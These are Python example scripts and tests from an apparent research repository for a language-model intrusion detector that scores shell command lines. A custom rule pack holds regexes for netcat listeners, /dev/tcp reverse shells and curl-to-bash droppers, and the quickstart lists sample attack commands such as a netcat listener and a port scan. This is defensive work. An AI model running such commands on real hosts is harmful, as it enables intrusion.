    config = FleetConfig(
        nodes=tuple(node.address for node in nodes),
        batch_max_events=16,
        batch_max_latency_ms=10.0,
        heartbeat_interval_seconds=0.1,
        heartbeat_timeout_seconds=0.5,
        suspicion_misses=2,
    )

    events = [
        (line, f"host-{index % N_HOSTS:02d}")
        for index, line in enumerate(TELEMETRY * 3)
    ]
    third = len(events) // 3

    async with FleetRouter(config) as router:
        print(f"\n== stream: {len(events)} events across {N_HOSTS} hosts ==")
        for line, host in events[:third]:
            await router.submit(line, host)

        print("\n== rolling fleet swap (traffic keeps flowing) ==")
        async def keep_streaming():
            for line, host in events[third : 2 * third]:
                await router.submit(line, host)
                await asyncio.sleep(0.001)

        feeder = asyncio.ensure_future(keep_streaming())
        reports = await router.swap_fleet(str(bundle_v2))
        await feeder
        for report in reports:
            print(
                f"  {report['node_id']}: generation {report['generation']} "
                f"(swap {report['swap_ms']:.1f} ms, drain {report['drain_ms']:.1f} ms)"
            )

        victim = nodes[1]
        print(f"\n== kill {victim.node_id} mid-stream ==")
        await victim.kill()
        for line, host in events[2 * third :]:
            await router.submit(line, host)
        await router.drain()
        print(f"survivors: {router.live_nodes}")
        for entry in router.log:
            print(f"  log: {entry}")

        print("\n== merged fleet metrics ==")
        status = await router.status()
        merged = status["merged"]
        print(f"router stats: {status['router']}")
        print(
            f"fleet totals: events={merged['events_total']} "
            f"alerts={merged['alerts']} dropped={merged['dropped']} "
            f"p50={merged['latency_p50_ms']}ms p99={merged['latency_p99_ms']}ms"
        )
        for entry in status["nodes"]:
            print(
                f"  {entry['node_id']}: generation={entry['generation']} "
                f"events={entry['events_ingested']} batches={entry['batches_ingested']}"
            )

    for node in nodes:
        if node is not victim:
            await node.stop()
    print("\nfleet demo complete: zero events lost, fleet at one generation")


if __name__ == "__main__":
    asyncio.run(main())
