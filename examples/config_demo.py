"""Declarative serving: one config file describes the whole deployment.

Trains the miniature demo service, saves it as a bundle, then brings up
a :class:`DetectionServer` from ``examples/serve.toml`` via
``DetectionServer.from_config`` — the same path ``repro-ids serve
--config`` takes.  Along the way it shows the three legs of the
declarative API:

1. ``ServingConfig.from_file`` / ``to_dict`` round-trip (what
   ``--print-config`` emits);
2. ``from_config`` building the backend, cache (with TTL), sessions,
   and URI-addressed sinks with their delivery policies;
3. the bundle *recording* the config it was served with, so the next
   ``from_config(bundle)`` reproduces the deployment with no file.

Run from the repository root:

    PYTHONPATH=src python examples/config_demo.py
"""

import asyncio
import json
import tempfile
from pathlib import Path

from repro.serving import DetectionServer, ServingConfig, load_recorded_config
from repro.serving.demo import DEMO_BENIGN, DEMO_MALICIOUS, build_demo_service

CONFIG_FILE = Path(__file__).parent / "serve.toml"


async def main() -> None:
    config = ServingConfig.from_file(CONFIG_FILE)
    print(f"loaded {CONFIG_FILE.name}:")
    print(json.dumps(config.to_dict(), indent=2))
    assert ServingConfig.from_dict(config.to_dict()) == config  # lossless

    print("\ntraining the demo service (a few seconds) ...")
    service = build_demo_service()

    with tempfile.TemporaryDirectory(prefix="config-demo-") as workdir:
        bundle = Path(workdir) / "bundle"
        service.save(bundle)

        # the jsonl:// sink in serve.toml uses a relative path; run the
        # deployment inside the scratch directory
        import os

        os.chdir(workdir)

        server = DetectionServer.from_config(bundle, config)
        async with server:
            for line in DEMO_BENIGN[:4] + DEMO_MALICIOUS:
                result = await server.submit(line, host="demo-host")
                marker = "ALERT" if result.is_intrusion else "     "
                print(f"{marker} {result.score:.3f} {line}")

        print("\nper-sink delivery stats:")
        print(server.sinks.render())

        # the bundle now remembers how it was served
        recorded = load_recorded_config(bundle)
        assert recorded == config
        print(f"\nbundle recorded its serving config: {recorded == config}")
        print("alerts on disk:", (Path(workdir) / "alerts.jsonl").exists())


if __name__ == "__main__":
    asyncio.run(main())
