#!/usr/bin/env python3
"""Bring your own supervision: swap in a custom rule pack as the label source.

The paper's methods treat the commercial IDS as a pluggable black box —
"supervision may come from a variety of sources, though all very noisy".
This example builds a *narrower* rule pack (reverse shells and droppers
only), uses it as the supervision source, and shows that the tuned
model still digs out attack families the rules never labeled — the
generalization that makes the approach more than a regex accelerator.

Run:  python examples/custom_rulepack.py
"""

import numpy as np

from repro import WorldConfig, build_world
from repro.evaluation import evaluate_method
from repro.ids import CommercialIDS, Rule, RuleSet
from repro.tuning import ClassificationTuner, label_with_ids

CONFIG = WorldConfig(
    train_lines=4_000,
    test_lines=2_500,
    vocab_size=800,
    pretrain_epochs=2,
    tuning_subsample=2_500,
    top_vs=(10, 50),
    seed=11,
)


def narrow_rule_pack() -> RuleSet:
    """Two families only: reverse shells and pipe-to-shell droppers."""
    return RuleSet(
        [
            Rule("custom.nc_listen", r"\bnc\s+-l\S*\s+\d+", "reverse_shell"),
            Rule("custom.dev_tcp", r"bash\s+-i\s*>&\s*/dev/tcp/", "reverse_shell"),
            Rule("custom.pipe_bash", r"(curl|wget)\s[^|]*http[^|]*\|\s*bash", "download_exec"),
        ]
    )


def main() -> None:
    print("building world (~1 minute) ...")
    world = build_world(CONFIG)

    custom_ids = CommercialIDS(rules=narrow_rule_pack(), label_noise=0.02, seed=0)
    labeled = label_with_ids(world.train, custom_ids)
    print(f"custom supervision: {labeled.n_positive} positive labels "
          f"covering only {sorted(custom_ids.rules.families())}")

    tuner = ClassificationTuner(world.encoder, lr=1e-2, epochs=6, pooling="mean", seed=0)
    tuner.fit(labeled.lines, labeled.labels)
    scores = tuner.score(world.test_lines_dedup)

    inbox = custom_ids.detect(world.test_lines_dedup).astype(bool)
    evaluation = evaluate_method(
        "custom-supervision", scores, world.truth, inbox,
        recall_target=0.95, top_vs=CONFIG.top_vs,
    )
    print(f"\nwith only {len(narrow_rule_pack())} rules as supervision: "
          f"PO={evaluation.po:.3f} PO&I={evaluation.poi:.3f}")

    # Which families did the model flag that the rules cannot even express?
    order = np.argsort(-scores)[:25]
    flagged_families = set()
    for index in order:
        record = world.test_dedup[index]
        if record.is_malicious and record.scenario.startswith("attack."):
            flagged_families.add(record.scenario.split(".", 1)[1])
    unlabeled = flagged_families - custom_ids.rules.families()
    print(f"families in the model's top-25 never labeled by the rules: {sorted(unlabeled)}")


if __name__ == "__main__":
    main()
