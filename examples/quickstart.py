#!/usr/bin/env python3
"""Quickstart: the full pipeline of Figure 1 in ~40 lines.

Generates a small synthetic telemetry window, pre-processes it, trains
the BPE tokenizer and the MLM command-line language model, tunes a
classification head on noisy commercial-IDS labels, and scores a few
commands — including an out-of-box intrusion the signature IDS misses.

Run:  python examples/quickstart.py
"""

from repro import WorldConfig, build_world, evaluate_method, run_classification
from repro.experiments.methods import training_subset
from repro.tuning import ClassificationTuner

#: A laptop-friendly scale: ~2 minutes end to end.
CONFIG = WorldConfig(
    train_lines=6_000,
    test_lines=2_500,
    vocab_size=900,
    pretrain_epochs=3,
    tuning_subsample=3_000,
    top_vs=(10, 50),
    seed=0,
)


def main() -> None:
    print("building world: telemetry -> pre-processing -> BPE -> MLM pre-training ...")
    world = build_world(CONFIG)
    print(f"  train: {world.train.summary()}")
    print(f"  test (dedup): {len(world.test_dedup)} lines, "
          f"{int(world.truth.sum())} intrusions ({int(world.inbox_mask.sum())} in-box)")

    print("\nscoring the dedup test set with classification-based tuning ...")
    scores = run_classification(world, seed=0)
    evaluation = evaluate_method(
        "classification", scores, world.truth, world.inbox_mask,
        recall_target=world.config.recall_target, top_vs=world.config.top_vs,
    )
    print(f"  PO={evaluation.po:.3f}  PO&I={evaluation.poi:.3f}  "
          f"PO@{CONFIG.top_vs[0]}={evaluation.po_at[CONFIG.top_vs[0]]:.3f}")

    print("\nlive verdicts on fresh commands:")
    subset = training_subset(world, seed=0)
    tuner = ClassificationTuner(world.encoder, lr=1e-2, epochs=5, pooling="mean", seed=0)
    tuner.fit(subset.lines, subset.labels)
    demo = [
        "ls -la /var/log",                                  # benign
        "tar -czf backup.tgz /etc",                         # benign
        "nc -ulp 31337",                                    # out-of-box reverse shell
        "sh /root/masscan.sh 203.0.113.5 -p 0-65535",       # out-of-box scan wrapper
    ]
    for line, score in zip(demo, tuner.score(demo)):
        flagged = "INTRUSION" if score >= evaluation.threshold else "benign   "
        ids_verdict = "flags " if world.ids.detect([line])[0] else "misses"
        print(f"  [{flagged}] model={score:.4f}  commercial IDS {ids_verdict}  {line}")


if __name__ == "__main__":
    main()
