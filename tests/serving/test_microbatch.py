"""Tests for the micro-batching queue: size/deadline flush, errors, drain."""

import asyncio

import pytest

from repro.serving import MicroBatcher
from repro.serving.microbatch import FLUSH_DEADLINE, FLUSH_DRAIN, FLUSH_SIZE


def run(coro):
    return asyncio.run(coro)


class RecordingHandler:
    """Echo handler that records every batch it was flushed."""

    def __init__(self):
        self.batches: list[list] = []

    def __call__(self, items):
        self.batches.append(list(items))
        return [f"scored:{item}" for item in items]


class TestFlushOnSize:
    def test_full_batch_flushes_immediately(self):
        handler = RecordingHandler()
        flushes = []

        async def scenario():
            batcher = MicroBatcher(
                handler, max_batch=4, max_latency_ms=10_000, on_flush=lambda n, r: flushes.append((n, r))
            )
            await batcher.start()
            # max_latency is 10s: only the size trigger can flush this fast
            results = await asyncio.wait_for(
                asyncio.gather(*(batcher.submit(i) for i in range(4))), timeout=2.0
            )
            await batcher.stop()
            return results

        results = run(scenario())
        assert sorted(results) == [f"scored:{i}" for i in range(4)]
        assert len(handler.batches) == 1
        assert len(handler.batches[0]) == 4
        assert flushes == [(4, FLUSH_SIZE)]

    def test_overflow_forms_second_batch(self):
        handler = RecordingHandler()

        async def scenario():
            batcher = MicroBatcher(handler, max_batch=3, max_latency_ms=50)
            await batcher.start()
            await asyncio.gather(*(batcher.submit(i) for i in range(7)))
            await batcher.stop()

        run(scenario())
        assert sum(len(batch) for batch in handler.batches) == 7
        assert all(len(batch) <= 3 for batch in handler.batches)


class TestFlushOnDeadline:
    def test_partial_batch_flushes_at_deadline(self):
        handler = RecordingHandler()
        flushes = []

        async def scenario():
            batcher = MicroBatcher(
                handler, max_batch=100, max_latency_ms=20, on_flush=lambda n, r: flushes.append((n, r))
            )
            await batcher.start()
            # far fewer submissions than max_batch: only the deadline flushes
            results = await asyncio.wait_for(
                asyncio.gather(batcher.submit("a"), batcher.submit("b")), timeout=2.0
            )
            await batcher.stop()
            return results

        results = run(scenario())
        assert results == ["scored:a", "scored:b"]
        assert flushes[0][1] == FLUSH_DEADLINE

    def test_results_map_back_to_submitters(self):
        handler = RecordingHandler()

        async def scenario():
            batcher = MicroBatcher(handler, max_batch=8, max_latency_ms=15)
            await batcher.start()
            results = await asyncio.gather(*(batcher.submit(i) for i in range(5)))
            await batcher.stop()
            return results

        assert run(scenario()) == [f"scored:{i}" for i in range(5)]


class TestErrorsAndLifecycle:
    def test_handler_exception_propagates_to_all_producers(self):
        def broken(items):
            raise RuntimeError("encoder died")

        async def scenario():
            batcher = MicroBatcher(broken, max_batch=2, max_latency_ms=10)
            await batcher.start()
            with pytest.raises(RuntimeError, match="encoder died"):
                await asyncio.gather(batcher.submit("a"), batcher.submit("b"))
            await batcher.stop()

        run(scenario())

    def test_length_mismatch_is_an_error(self):
        async def scenario():
            batcher = MicroBatcher(lambda items: [1, 2, 3], max_batch=1, max_latency_ms=10)
            await batcher.start()
            with pytest.raises(RuntimeError, match="results"):
                await batcher.submit("only-one")
            await batcher.stop()

        run(scenario())

    def test_submit_before_start_raises(self):
        async def scenario():
            batcher = MicroBatcher(lambda items: items)
            with pytest.raises(RuntimeError, match="not running"):
                await batcher.submit("x")

        run(scenario())

    def test_stop_drains_pending_items(self):
        handler = RecordingHandler()
        flushes = []

        async def scenario():
            batcher = MicroBatcher(
                handler, max_batch=10, max_latency_ms=5_000, on_flush=lambda n, r: flushes.append((n, r))
            )
            await batcher.start()
            task = asyncio.ensure_future(batcher.submit("pending"))
            await asyncio.sleep(0.01)  # let the worker pick the item up
            await batcher.stop()
            return await asyncio.wait_for(task, timeout=1.0)

        assert run(scenario()) == "scored:pending"
        assert flushes[-1][1] == FLUSH_DRAIN

    def test_restart_after_stop(self):
        handler = RecordingHandler()

        async def scenario():
            batcher = MicroBatcher(handler, max_batch=1, max_latency_ms=10)
            await batcher.start()
            first = await batcher.submit("one")
            await batcher.stop()
            await batcher.start()
            second = await batcher.submit("two")
            await batcher.stop()
            return first, second

        assert run(scenario()) == ("scored:one", "scored:two")

    def test_invalid_configuration_rejected(self):
        with pytest.raises(ValueError):
            MicroBatcher(lambda items: items, max_batch=0)
        with pytest.raises(ValueError):
            MicroBatcher(lambda items: items, max_latency_ms=0)


class TestAsyncHandler:
    def test_awaitable_handler_results_map_back(self):
        async def handler(items):
            await asyncio.sleep(0)
            return [item * 2 for item in items]

        async def scenario():
            batcher = MicroBatcher(handler, max_batch=4, max_latency_ms=10)
            await batcher.start()
            results = await asyncio.gather(*(batcher.submit(i) for i in range(4)))
            await batcher.stop()
            return results

        assert run(scenario()) == [0, 2, 4, 6]

    def test_async_handler_exception_propagates(self):
        async def handler(items):
            raise RuntimeError("backend died")

        async def scenario():
            batcher = MicroBatcher(handler, max_batch=1, max_latency_ms=10)
            await batcher.start()
            with pytest.raises(RuntimeError, match="backend died"):
                await batcher.submit("x")
            await batcher.stop()

        run(scenario())

    def test_stop_mid_async_handler_aborts_producers(self):
        from repro.serving import BatchAborted

        release = asyncio.Event()

        async def handler(items):
            await release.wait()  # a scoring pass stop() will interrupt
            return items

        async def scenario():
            batcher = MicroBatcher(handler, max_batch=2, max_latency_ms=5)
            await batcher.start()
            producers = [asyncio.ensure_future(batcher.submit(i)) for i in range(2)]
            await asyncio.sleep(0.05)  # batch is now inside the handler
            await batcher.stop()
            return await asyncio.gather(*producers, return_exceptions=True)

        outcomes = run(scenario())
        assert all(isinstance(outcome, BatchAborted) for outcome in outcomes)


class TestDeadlineRaceRegression:
    """The old collector used ``asyncio.wait_for(queue.get(), remaining)``;
    when the timeout landed in the same loop iteration as a dequeue, the
    cancelled getter dropped the item — its producer hung forever."""

    def test_hammering_the_timeout_boundary_never_loses_events(self):
        handler = RecordingHandler()
        producers, per_producer = 8, 25

        async def scenario():
            # max_latency_ms=1 with ~1ms submit gaps keeps every deadline
            # expiry racing an in-flight dequeue
            batcher = MicroBatcher(handler, max_batch=8, max_latency_ms=1)
            await batcher.start()

            async def producer(name: int) -> list[str]:
                results = []
                for i in range(per_producer):
                    results.append(await batcher.submit(f"{name}-{i}"))
                    await asyncio.sleep(0.001)
                return results

            results = await asyncio.wait_for(
                asyncio.gather(*(producer(p) for p in range(producers))),
                timeout=60.0,
            )
            await batcher.stop()
            return results

        results = run(scenario())
        # every submission resolved, with its own result
        flat = [item for chunk in results for item in chunk]
        assert len(flat) == producers * per_producer
        expected = sorted(
            f"scored:{p}-{i}" for p in range(producers) for i in range(per_producer)
        )
        assert sorted(flat) == expected
        # and the handler saw each event exactly once (no loss, no dupes)
        handled = sorted(item for batch in handler.batches for item in batch)
        assert handled == sorted(
            f"{p}-{i}" for p in range(producers) for i in range(per_producer)
        )


class TestRestartWithStrandedQueue:
    """The old ``start()`` kept a non-empty queue — bound to a dead loop,
    holding futures nobody could ever resolve — when restarting."""

    def test_restart_on_new_loop_fails_stranded_items_and_serves_fresh_ones(self):
        calls: list[list] = []
        block_first = {"armed": True}

        async def handler(items):
            calls.append(list(items))
            if block_first["armed"]:
                block_first["armed"] = False
                await asyncio.Event().wait()  # first batch never returns
            return [f"scored:{item}" for item in items]

        batcher = MicroBatcher(handler, max_batch=1, max_latency_ms=5)

        loop = asyncio.new_event_loop()
        try:

            async def first_run():
                await batcher.start()
                in_flight = asyncio.ensure_future(batcher.submit("in-flight"))
                await asyncio.sleep(0.02)  # worker is now stuck in the handler
                stranded = asyncio.ensure_future(batcher.submit("stranded"))
                await asyncio.sleep(0.02)  # "stranded" sits queued behind it
                return in_flight, stranded

            in_flight, stranded = loop.run_until_complete(first_run())
            assert batcher.pending == 1  # "stranded" never reached the handler
        finally:
            # abandon the loop mid-flight: worker task and queue die with it
            loop.close()

        async def second_run():
            await batcher.start()  # must rebuild the queue for this loop
            result = await asyncio.wait_for(batcher.submit("fresh"), timeout=2.0)
            await batcher.stop()
            return result

        assert run(second_run()) == "scored:fresh"
        assert batcher.pending == 0
        # keep the dead-loop futures alive until here so their abort (or
        # cancellation) never warns at GC mid-test
        del in_flight, stranded
