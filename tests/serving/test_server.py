"""Tests for the DetectionServer event path (driven with a stub service)."""

import asyncio

import pytest

from repro.errors import ConfigError
from repro.serving import (
    CommandEvent,
    DetectionServer,
    RingBufferSink,
    SessionConfig,
    serve_stream,
)
from repro.serving.events import AlertStatus


def run(coro):
    return asyncio.run(coro)


class TestSubmitPath:
    def test_intrusion_verdict_and_alert(self, stub_service):
        ring = RingBufferSink()

        async def scenario():
            async with DetectionServer(stub_service, max_latency_ms=5, sinks=[ring]) as server:
                return await server.submit("evil --flag", host="web-1")

        result = run(scenario())
        assert result.is_intrusion
        assert result.alert is not None
        assert result.alert.host == "web-1"
        assert ring.emitted == 1

    def test_benign_event_produces_no_alert(self, stub_service):
        async def scenario():
            async with DetectionServer(stub_service, max_latency_ms=5) as server:
                return await server.submit("ls -la")

        result = run(scenario())
        assert not result.is_intrusion
        assert result.alert is None

    def test_dropped_event_skips_scoring(self, stub_service):
        async def scenario():
            async with DetectionServer(stub_service, max_latency_ms=5) as server:
                return await server.submit("echo 'unterminated'")  # stub drops trailing '

        result = run(scenario())
        assert result.dropped
        assert result.score == 0.0
        assert stub_service.scored_batches == []

    def test_normalization_applied_per_event(self, stub_service):
        async def scenario():
            async with DetectionServer(stub_service, max_latency_ms=5) as server:
                return await server.submit("  evil    --flag  ")

        assert run(scenario()).line == "evil --flag"


class TestCacheAccounting:
    def test_repeat_line_hits_cache(self, stub_service):
        async def scenario():
            async with DetectionServer(stub_service, max_latency_ms=5) as server:
                first = await server.submit("evil --flag")
                second = await server.submit("evil --flag")
                return first, second, server

        first, second, server = run(scenario())
        assert not first.cache_hit
        assert second.cache_hit
        assert first.score == second.score
        assert server.metrics.cache_hits == 1
        assert server.metrics.cache_misses == 1
        # the LM only ever saw the line once
        assert sum(len(b) for b in stub_service.scored_batches) == 1

    def test_within_batch_duplicates_scored_once(self, stub_service):
        async def scenario():
            async with DetectionServer(
                stub_service, max_batch=8, max_latency_ms=30
            ) as server:
                results = await asyncio.gather(*(server.submit("evil x") for _ in range(6)))
                return results, server

        results, server = run(scenario())
        assert len({r.score for r in results}) == 1
        assert server.metrics.unique_scored == 1

    def test_cache_disabled_scores_every_event(self, stub_service):
        async def scenario():
            async with DetectionServer(stub_service, cache_size=0, max_latency_ms=5) as server:
                await server.submit("ls -la")
                await server.submit("ls -la")
                return server

        server = run(scenario())
        assert server.metrics.cache_hits == 0
        assert server.metrics.cache_misses == 2


class TestEscalation:
    def test_burst_host_escalates_and_status_changes(self, stub_service):
        ring = RingBufferSink()

        async def scenario():
            async with DetectionServer(
                stub_service,
                max_latency_ms=5,
                sinks=[ring],
                session_window_seconds=100,
                escalation_threshold=3,
            ) as server:
                for t in range(5):
                    await server.submit("evil burst", host="victim", timestamp=float(t))
                return server

        server = run(scenario())
        assert server.sessions.escalated_hosts() == ["victim"]
        assert server.metrics.escalations == 1
        statuses = [alert.status for alert in ring.alerts]
        assert statuses[:2] == [AlertStatus.OPEN, AlertStatus.OPEN]
        assert statuses[2:] == [AlertStatus.ESCALATED] * 3


class TestSequenceEscalation:
    def test_sequence_mode_escalates_on_corroborated_context(self, two_stage_stub):
        ring = RingBufferSink()
        session = SessionConfig(mode="sequence", escalation_threshold=99)

        async def scenario():
            async with DetectionServer(
                two_stage_stub, max_latency_ms=5, sinks=[ring], session=session
            ) as server:
                first = await server.submit("evil one", host="victim", timestamp=0.0)
                second = await server.submit("evil two", host="victim", timestamp=10.0)
                return first, second, server

        first, second, server = run(scenario())
        # first flagged event: only one evil segment in context → no escalation
        assert first.sequence_score == 0.2
        assert first.alert.status is AlertStatus.OPEN
        # second: the window corroborates → sequence escalation
        assert second.sequence_score == 0.95
        assert second.alert.status is AlertStatus.ESCALATED
        assert second.alert.context == "evil one ; evil two"
        assert second.alert.sequence_score == 0.95
        assert server.sessions.session("victim").escalated_by == "sequence"
        assert server.metrics.sequence_scored == 2
        assert server.metrics.sequence_escalations == 1
        assert server.metrics.escalations == 1

    def test_second_stage_skipped_for_benign_events(self, two_stage_stub):
        session = SessionConfig(mode="sequence")

        async def scenario():
            async with DetectionServer(
                two_stage_stub, max_latency_ms=5, session=session
            ) as server:
                for index in range(5):
                    await server.submit(f"ls -la {index}", host="h", timestamp=float(index))
                return server

        server = run(scenario())
        assert two_stage_stub.sequence_batches == []
        assert server.metrics.sequence_scored == 0

    def test_count_mode_never_invokes_second_stage(self, two_stage_stub):
        async def scenario():
            async with DetectionServer(two_stage_stub, max_latency_ms=5) as server:
                await server.submit("evil one", host="h", timestamp=0.0)
                await server.submit("evil two", host="h", timestamp=1.0)
                return server

        server = run(scenario())
        assert two_stage_stub.sequence_batches == []
        assert server.metrics.sequence_scored == 0

    def test_sequence_mode_without_head_fails_at_construction(self, stub_service):
        with pytest.raises(ConfigError, match="multi-line head"):
            DetectionServer(stub_service, session=SessionConfig(mode="sequence"))

    def test_composition_skew_against_bundle_meta_warns(self, two_stage_stub):
        two_stage_stub.multiline_composer_meta = {"window": 4, "max_gap_seconds": 120.0}
        with pytest.warns(UserWarning, match="training composer"):
            DetectionServer(
                two_stage_stub, session=SessionConfig(mode="sequence", context_window=3)
            )
        # matching composition (or count mode) stays quiet
        import warnings as warnings_module

        with warnings_module.catch_warnings():
            warnings_module.simplefilter("error")
            DetectionServer(
                two_stage_stub,
                session=SessionConfig(
                    mode="sequence", context_window=4, context_max_gap_seconds=120.0
                ),
            )
            DetectionServer(two_stage_stub, session=SessionConfig(mode="count"))

    def test_swap_refuses_bundle_without_second_stage(self, two_stage_stub, stub_service):
        session = SessionConfig(mode="sequence")

        async def scenario():
            async with DetectionServer(
                two_stage_stub, max_latency_ms=5, session=session
            ) as server:
                with pytest.raises(ConfigError, match="multi-line head"):
                    await server.swap_model(service=stub_service)
                # the server kept serving on the old two-stage service
                return await server.submit("evil again", host="h", timestamp=0.0)

        result = run(scenario())
        assert result.is_intrusion
        assert result.sequence_score is not None


class TestServeStream:
    def test_results_in_input_order(self, stub_service):
        events = [CommandEvent(f"cmd-{i}") for i in range(20)]
        results, _ = serve_stream(stub_service, events, concurrency=4, max_latency_ms=5)
        assert [r.raw_line for r in results] == [f"cmd-{i}" for i in range(20)]

    def test_plain_strings_accepted(self, stub_service):
        results, server = serve_stream(
            stub_service, ["ls", "evil thing", "ls"], concurrency=2, max_latency_ms=5
        )
        assert len(results) == 3
        assert server.metrics.alerts == 1

    def test_metrics_cover_all_events(self, stub_service):
        events = [CommandEvent("ls")] * 10 + [CommandEvent("bad'")]
        _, server = serve_stream(stub_service, events, concurrency=3, max_latency_ms=5)
        snap = server.metrics.snapshot()
        assert snap["events_total"] == 11
        assert snap["dropped"] == 1
        assert snap["cache_hits"] + snap["cache_misses"] == 10
        assert snap["events_per_second"] > 0

    def test_existing_server_reused_for_warm_cache(self, stub_service):
        server = DetectionServer(stub_service, max_latency_ms=5)
        serve_stream(stub_service, ["ls -la"] * 4, concurrency=2, server=server)
        hits_after_cold = server.metrics.cache_hits
        misses_after_cold = server.metrics.cache_misses
        assert misses_after_cold >= 1
        # second pass over the same stream: every event is a cache hit
        serve_stream(stub_service, ["ls -la"] * 4, concurrency=2, server=server)
        assert server.metrics.cache_misses == misses_after_cold
        assert server.metrics.cache_hits == hits_after_cold + 4
        # the throughput clock accumulates active time across both passes
        assert server.metrics.events_total == 8
        assert server.metrics.elapsed_seconds > 0

    def test_server_reuse_rejects_conflicting_options(self, stub_service):
        server = DetectionServer(stub_service, max_latency_ms=5)
        with pytest.raises(ValueError, match="cache_size"):
            serve_stream(stub_service, ["ls"], server=server, cache_size=0)
