"""Tests for per-host session aggregation and rolling-window escalation."""

import pytest

from repro.serving import SessionAggregator


class TestSessionAggregator:
    def test_alert_burst_escalates_host(self):
        agg = SessionAggregator(window_seconds=60, escalation_threshold=3)
        newly = [agg.observe("h", t, is_alert=True)[1] for t in (0.0, 10.0, 20.0)]
        assert newly == [False, False, True]
        assert agg.session("h").escalated

    def test_escalation_fires_exactly_once(self):
        agg = SessionAggregator(window_seconds=60, escalation_threshold=2)
        flags = [agg.observe("h", float(t), is_alert=True)[1] for t in range(5)]
        assert sum(flags) == 1

    def test_old_alerts_age_out_of_window(self):
        agg = SessionAggregator(window_seconds=30, escalation_threshold=3)
        agg.observe("h", 0.0, is_alert=True)
        agg.observe("h", 10.0, is_alert=True)
        # 100s later: both earlier alerts left the window, count restarts
        session, newly = agg.observe("h", 100.0, is_alert=True)
        assert not newly
        assert session.alerts_in_window() == 1
        assert not session.escalated

    def test_benign_events_do_not_count_toward_escalation(self):
        agg = SessionAggregator(window_seconds=60, escalation_threshold=2)
        for t in range(10):
            session, newly = agg.observe("h", float(t), is_alert=False)
            assert not newly
        assert session.events == 10
        assert session.alerts == 0
        assert not session.escalated

    def test_hosts_are_independent(self):
        agg = SessionAggregator(window_seconds=60, escalation_threshold=2)
        agg.observe("a", 0.0, is_alert=True)
        agg.observe("b", 0.0, is_alert=True)
        assert agg.escalated_hosts() == []
        agg.observe("a", 1.0, is_alert=True)
        assert agg.escalated_hosts() == ["a"]
        assert len(agg.sessions()) == 2

    def test_escalation_is_sticky(self):
        agg = SessionAggregator(window_seconds=10, escalation_threshold=2)
        agg.observe("h", 0.0, is_alert=True)
        agg.observe("h", 1.0, is_alert=True)
        # long quiet period: window empties but the host stays escalated
        session, _ = agg.observe("h", 1_000.0, is_alert=False)
        assert session.escalated
        assert session.escalated_at == 1.0

    def test_invalid_configuration_rejected(self):
        with pytest.raises(ValueError):
            SessionAggregator(window_seconds=0)
        with pytest.raises(ValueError):
            SessionAggregator(escalation_threshold=0)
