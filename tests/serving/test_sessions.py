"""Tests for per-host session aggregation and rolling-window escalation."""

import pytest

from repro.serving import SessionAggregator


class TestSessionAggregator:
    def test_alert_burst_escalates_host(self):
        agg = SessionAggregator(window_seconds=60, escalation_threshold=3)
        newly = [agg.observe("h", t, is_alert=True)[1] for t in (0.0, 10.0, 20.0)]
        assert newly == [False, False, True]
        assert agg.session("h").escalated

    def test_escalation_fires_exactly_once(self):
        agg = SessionAggregator(window_seconds=60, escalation_threshold=2)
        flags = [agg.observe("h", float(t), is_alert=True)[1] for t in range(5)]
        assert sum(flags) == 1

    def test_old_alerts_age_out_of_window(self):
        agg = SessionAggregator(window_seconds=30, escalation_threshold=3)
        agg.observe("h", 0.0, is_alert=True)
        agg.observe("h", 10.0, is_alert=True)
        # 100s later: both earlier alerts left the window, count restarts
        session, newly = agg.observe("h", 100.0, is_alert=True)
        assert not newly
        assert session.alerts_in_window() == 1
        assert not session.escalated

    def test_benign_events_do_not_count_toward_escalation(self):
        agg = SessionAggregator(window_seconds=60, escalation_threshold=2)
        for t in range(10):
            session, newly = agg.observe("h", float(t), is_alert=False)
            assert not newly
        assert session.events == 10
        assert session.alerts == 0
        assert not session.escalated

    def test_hosts_are_independent(self):
        agg = SessionAggregator(window_seconds=60, escalation_threshold=2)
        agg.observe("a", 0.0, is_alert=True)
        agg.observe("b", 0.0, is_alert=True)
        assert agg.escalated_hosts() == []
        agg.observe("a", 1.0, is_alert=True)
        assert agg.escalated_hosts() == ["a"]
        assert len(agg.sessions()) == 2

    def test_escalation_is_sticky(self):
        agg = SessionAggregator(window_seconds=10, escalation_threshold=2)
        agg.observe("h", 0.0, is_alert=True)
        agg.observe("h", 1.0, is_alert=True)
        # long quiet period: window empties but the host stays escalated
        session, _ = agg.observe("h", 1_000.0, is_alert=False)
        assert session.escalated
        assert session.escalated_at == 1.0

    def test_invalid_configuration_rejected(self):
        with pytest.raises(ValueError):
            SessionAggregator(window_seconds=0)
        with pytest.raises(ValueError):
            SessionAggregator(escalation_threshold=0)
        with pytest.raises(ValueError):
            SessionAggregator(mode="markov")
        with pytest.raises(ValueError):
            SessionAggregator(context_window=0)
        with pytest.raises(ValueError):
            SessionAggregator(context_max_gap_seconds=0)
        with pytest.raises(ValueError):
            SessionAggregator(max_hosts=0)


class TestOutOfOrderTimestamps:
    def test_late_event_is_clamped_to_host_horizon(self):
        """Regression: a late event used to append its stale timestamp to
        the rolling window, leaving a forever-stuck entry the sorted
        pruning loop could never reach."""
        agg = SessionAggregator(window_seconds=60, escalation_threshold=3)
        agg.observe("h", 1_000.0, is_alert=True)
        session, _ = agg.observe("h", 5.0, is_alert=True)  # arrives late
        # clamped to the newest timestamp seen, not recorded in the past
        assert session.last_seen == 1_000.0
        assert list(session.window) == [1_000.0, 1_000.0]
        # the window stays sorted, so later pruning still works
        session, _ = agg.observe("h", 2_000.0, is_alert=True)
        assert session.alerts_in_window() == 1

    def test_late_event_cannot_unescalate_window_progress(self):
        agg = SessionAggregator(window_seconds=60, escalation_threshold=3)
        agg.observe("h", 100.0, is_alert=True)
        agg.observe("h", 110.0, is_alert=True)
        # a late alert still counts toward the current window
        session, newly = agg.observe("h", 10.0, is_alert=True)
        assert newly
        assert session.escalated

    def test_window_never_retains_entries_behind_horizon(self):
        agg = SessionAggregator(window_seconds=30, escalation_threshold=99)
        for t in (0.0, 50.0, 10.0, 80.0, 20.0, 200.0):
            session, _ = agg.observe("h", t, is_alert=True)
            horizon = session.last_seen - agg.window_seconds
            assert all(stamp >= horizon for stamp in session.window)


class TestIdleHostEviction:
    def test_lru_eviction_bounds_tracked_hosts(self):
        agg = SessionAggregator(max_hosts=3)
        for index, host in enumerate(("a", "b", "c")):
            agg.observe(host, float(index), is_alert=False)
        agg.observe("a", 10.0, is_alert=False)  # refresh a: b is now LRU
        agg.observe("d", 11.0, is_alert=False)
